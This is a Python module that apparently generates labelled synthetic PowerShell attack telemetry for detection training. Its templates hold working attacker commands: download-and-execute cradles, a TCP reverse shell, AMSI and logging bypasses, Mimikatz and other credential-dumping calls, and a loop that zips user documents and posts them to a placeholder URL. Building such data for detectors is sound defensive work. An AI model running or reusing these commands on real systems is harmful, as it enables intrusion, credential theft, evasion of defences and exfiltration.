"""Attackers' PowerShell: as command lines and as logged script blocks."""

from __future__ import annotations

from generator.families.windows.command_story import command_story, suspicious_process
from generator.families.windows.desk import Desk
from generator.scene import Scene, attack, family
from generator.world import World

PS = "«powershell|powershell.exe|C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"|C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe|pwsh.exe»"
QUIET = "«-nop -w hidden|-NoP -NonI -W Hidden|-w 1 -nop|-NoProfile -WindowStyle Hidden|-windowstyle hidden -ep bypass|-nop -sta -w 1|-NoLogo -NonInteractive -ExecutionPolicy Bypass -WindowStyle Hidden|-ep bypass|-exec bypass -nop»"

CRADLES = (
    "IEX (New-Object Net.WebClient).DownloadString('@url@«.ps1||.txt|.jpg»')", "iex(iwr @url@ -UseBasicParsing)", "IEX(New-Object System.Net.WebClient).downloadstring(\"@url@\")",
    "$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('@url@')", "Invoke-Expression (Invoke-RestMethod -Uri '@url@')", "iwr '@url@.exe' -OutFile @tmp@@word@.exe; Start-Process @tmp@@word@.exe",
    "(New-Object Net.WebClient).DownloadFile('@url@.exe','@tmp@@word@.exe');Start-Process '@tmp@@word@.exe'", "$x=[Net.WebRequest]::Create('@url@');$r=$x.GetResponse();IEX ([IO.StreamReader]($r.GetResponseStream())).ReadToEnd()",
    "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','@url@',$false);$h.send();iex $h.responseText", "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('@url@.dll')).EntryPoint.Invoke($null,$null)", "&('i'+'ex') ((&('new-ob'+'ject') net.webclient).('down'+'loadstring').invoke('@url@'))",
    "Start-BitsTransfer -Source @url@.exe -Destination @tmp@@word@.exe; & @tmp@@word@.exe", "$w=(gcm *w-O*t); &$w Net.WebClient |%{$_.DownloadString('@url@')}|iex", "irm @url@ | iex", "curl.exe -s @url@ | powershell -", "wget @url@ -o $env:TEMP\\@word@.ps1; . $env:TEMP\\@word@.ps1",
)
SHELLS = (
    "$client = New-Object System.Net.Sockets.TCPClient('@any@',«4444|443|9001|8443|1337»);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,$sendback.Length)}",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIA@word@@hex@AAAAAAAEA@word@@hex@'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();",
    "$v=[Runtime.InteropServices.Marshal]::AllocHGlobal(@port@);$k=Add-Type -memberDefinition '[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d);[DllImport(\"kernel32.dll\")]public static extern IntPtr CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);' -Name W -namespace F -passthru",
    "IEX (New-Object Net.WebClient).DownloadString('@url@/powercat.ps1');powercat -c @any@ -p «443|4444» -e cmd", "Invoke-PowerShellTcp -Reverse -IPAddress @any@ -Port @port@", "[Byte[]]$buf = 0xfc,0x48,0x83,0xe4,0xf0,0xe8,0xc0,0x00,0x00,0x00,0x41,0x51,0x41,0x50,0x52;[System.Runtime.InteropServices.Marshal]::Copy($buf,0,$addr,$buf.Length)",
    "$d='@hex@@hex@';$k=0x@letter@;$o=for($i=0;$i -lt $d.Length;$i+=2){[char]([convert]::toint16($d.substring($i,2),16) -bxor 35)};iex(-join $o)", "Invoke-ReflectivePEInjection -PEBytes $bytes -ProcId (Get-Process explorer).Id",
)
AMSI = (
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "$a=[Ref].Assembly.GetTypes();ForEach($b in $a){if($b.Name -like \"*iUtils\"){$c=$b}};$d=$c.GetFields('NonPublic,Static');ForEach($e in $d){if($e.Name -like \"*Context\"){$f=$e}};[IntPtr]$ptr=$f.GetValue($null);[Int32[]]$buf=@(0);[System.Runtime.InteropServices.Marshal]::Copy($buf,0,$ptr,1)",
    "S`eT-It`em ( 'V'+'aR' + 'IA' + ('blE:1'+'q2') + ('uZ'+'x') ) ( [TYpE]( \"{1}{0}\"-F'F','rE' ) )", "$p=[Win32]::GetProcAddress([Win32]::LoadLibrary('am'+'si.dll'),'Amsi'+'Scan'+'Buffer');[Win32]::VirtualProtect($p,[uint32]5,0x40,[ref]0);[Runtime.InteropServices.Marshal]::Copy([Byte[]](0xB8,0x57,0,7,0x80,0xC3),0,$p,6)",
    "[Delegate]::CreateDelegate((\"Func``3[String, $(([String].Assembly.GetType('System.Reflection.Bindin'+'gFlags')).FullName), System.Reflection.FieldInfo]\" -as [String].Assembly.GetType('System.T'+'ype')), [Object]([Ref].Assembly.GetType('System.Management.Automation.Ams'+'iUtils')),('GetFie'+'ld')).Invoke('amsiInitFailed',(('Non'+'Public,Static') -as [String].Assembly.GetType('System.Reflection.Bindin'+'gFlags'))).SetValue($null,$True)",
    "[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)",
    "$settings=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null);$settings['ScriptBlockLogging']['EnableScriptBlockLogging']=0", "Remove-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers' -Recurse -Force; Remove-Item 'HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}'",
    "[Runtime.InteropServices.Marshal]::WriteInt32([Ref].Assembly.GetType(('System.Management.Automation.{0}msiUtils' -f 'A')).GetField(('a{0}Context' -f 'msi'),'NonPublic,Static').GetValue($null),0x41414141)",
)
TOOLS = (
    "Invoke-Mimikatz -DumpCreds", "Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\"'", "IEX(New-Object Net.WebClient).DownloadString('@url@/Invoke-Mimikatz.ps1');Invoke-Mimikatz", "Invoke-Kerberoast -OutputFormat Hashcat | fl", "Get-DomainUser -SPN | Get-DomainSPNTicket -OutputFormat Hashcat", "Import-Module .\\PowerView.ps1; Invoke-UserHunter -CheckAccess",
    "Find-LocalAdminAccess -Verbose", "Invoke-BloodHound -CollectionMethod All -OutputDirectory @tmp@", ". .\\PowerUp.ps1; Invoke-AllChecks", "Invoke-PrivescAudit -Report HTML", "Invoke-SMBExec -Target @ip@ -Domain @domain@ -Username @user@ -Hash @hex@@hex@@hex@ -Command 'whoami'", "Invoke-TheHash -Type WMIExec -Targets @ip@/24", "Out-Minidump -Process (Get-Process lsass) -DumpFilePath @tmp@",
    "Invoke-DCSync -PWDumpFormat", "Get-GPPPassword -Server @dc@", "Invoke-NinjaCopy -Path C:\\Windows\\NTDS\\ntds.dit -LocalDestination @tmp@@word@.dit", "Get-Keystrokes -LogPath @tmp@@word@.log -Timeout 60", "Get-TimedScreenshot -Path @tmp@ -Interval 30", "Invoke-TokenManipulation -ImpersonateUser -Username 'nt authority\\system'", "Get-VaultCredential | ft", "Invoke-DomainPasswordSpray -Password «Winter@year@|Welcome1|Summer@year@!» -OutFile @tmp@@word@.txt", "Add-Persistence -ScriptBlock $payload -ElevatedPersistenceOption $e -UserPersistenceOption $u", "Invoke-PSInject -ProcId @pid@ -PoshCode $b64", "Invoke-Rubeus kerberoast /nowrap", "Invoke-Inveigh -ConsoleOutput Y -NBNS Y -mDNS Y",
)
_label = suspicious_process("T1059.001", "T1105")

command_story("powershell-download-cradle", _label, [f'{PS} {QUIET} -«c|Command|C» "{text}"' for text in CRADLES] + [f"{PS} {QUIET} {text}" for text in CRADLES[:6]], is_attack=True, weight=1.5)
command_story("powershell-encoded", suspicious_process("T1059.001", "T1027.010"), [f"{PS} {QUIET} -«e|enc|EncodedCommand|ec|en|encodedCommand» ⟦{text}⟧" for text in CRADLES + SHELLS + AMSI[:3]], is_attack=True, most=1, weight=1.5)
command_story("powershell-reverse-shell", suspicious_process("T1059.001", "T1095", severity="CRITICAL"), [f'{PS} {QUIET} -«c|Command» "{text}"' for text in SHELLS], is_attack=True, most=1)
command_story("powershell-obfuscated", suspicious_process("T1027.010", "T1059.001"), (
    "cmd /V:ON /C \"set @letter@=pow&&set @word@=ershell&&!@letter@!!@word@! -w hidden -c iex($env:@word@)\"", "cmd.exe /c p^o^w^e^r^s^h^e^l^l -^n^o^p -^w hidden -^e^n^c ⟦IEX (irm @url@)⟧", f"{PS} -c \"$@letter@=[char]73+[char]69+[char]88;&$@letter@ ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('@hex@@hex@==')))\"", f"{PS} \"& ( $ENv:coMspEc[4,15,25]-jOin'') ('@hex@'-split'x'|%{{[char][int]$_}})\"",
    f"{PS} -c \"$e=(gc $env:TEMP\\@word@.txt)-join'';iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($e)))\"", "cmd /c \"echo iex(irm @url@)|powershell -nop -\"", f"{PS} -c \"('XEI'[-1..-3]-join'')|%{{&$_ (irm @url@)}}\"", f"{PS} {QUIET} -c \"(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('7b0HY@hex@@hex@'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()|iex\"", "cmd.exe /c \"for /f %i in ('where p?wershell') do %i -w h -c iwr @url@|iex\"", f"{PS} -v 2 -nop -c \"iex (gp 'HKCU:\\Software\\@Word@').@word@\"", f"{PS} -Command \"gc 'C:\\Users\\@user@\\AppData\\Roaming\\@word@.log' | select -Last 1 | %{{ iex ([System.Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($_))) }}\"",
), is_attack=True, most=2)
command_story("powershell-attack-modules", suspicious_process("T1059.001", "T1003.001"), [f'{PS} «-ep bypass|-nop -exec bypass|-NoP -c|-Command» "{text}"' for text in TOOLS], is_attack=True, most=3)


@family("windows/script-block-hostile", attack=True, weight=2)
def script_block_hostile(world: World) -> Scene:
    """PowerShell's own log of cradles, shells, bypasses and modules."""
    desk = Desk(world)
    texts, label = world.pick([
        (CRADLES, attack("Suspicious Script", "T1059.001", "T1105")), (SHELLS, attack("Suspicious Script", "T1059.001", "T1095", severity="CRITICAL")), (AMSI, attack("Defense Evasion", "T1562.001", "T1059.001")), (TOOLS, attack("Suspicious Script", "T1059.001", "T1003.001")),
        (("function @Word@ { param($p) $b=[Convert]::FromBase64String($p); for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x@letter@} ; [Text.Encoding]::UTF8.GetString($b) } iex (@Word@ '@hex@@hex@@hex@')", "while($true){try{$t=(New-Object Net.WebClient).DownloadString('@url@/cmd');$o=iex $t|Out-String;(New-Object Net.WebClient).UploadString('@url@/out',$o)}catch{};Start-Sleep 5}", "$K=[System.Text.Encoding]::ASCII.GetBytes('@hex@');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]}};$ser='@url@';$t='/news.php';$wc.Headers.Add('Cookie','session=@hex@')", "Get-ChildItem -Path C:\\Users -Include *.kdbx,*.rdp,*pass*.txt,id_rsa,*.ovpn -Recurse -ErrorAction SilentlyContinue | Copy-Item -Destination @tmp@@word@", "Get-ChildItem $env:USERPROFILE -Recurse -Include *.docx,*.xlsx,*.pdf | Compress-Archive -DestinationPath @tmp@@word@.zip; Invoke-RestMethod -Uri @url@ -Method Post -InFile @tmp@@word@.zip"), attack("Suspicious Script", "T1059.001", "T1041")),
    ])
    for template in world.some(texts, 1, 1 if world.chance(0.6) else 3):
        desk.script(label, desk.fill(template), desk.fill(world.pick(["", "", "", "@tmp@@word@.ps1"])))
    return desk.scene
